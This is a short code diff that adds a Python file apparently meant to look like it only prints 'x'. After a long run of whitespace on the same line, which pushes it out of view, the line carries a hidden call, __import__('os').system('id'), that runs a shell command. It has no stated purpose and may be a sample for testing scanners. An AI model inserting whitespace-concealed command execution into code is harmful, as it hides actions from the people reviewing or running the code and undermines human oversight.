@@ -1,0 +1,2 @@
+import os
+print('x')                                                                                                                                                      ;__import__('os').system('id')
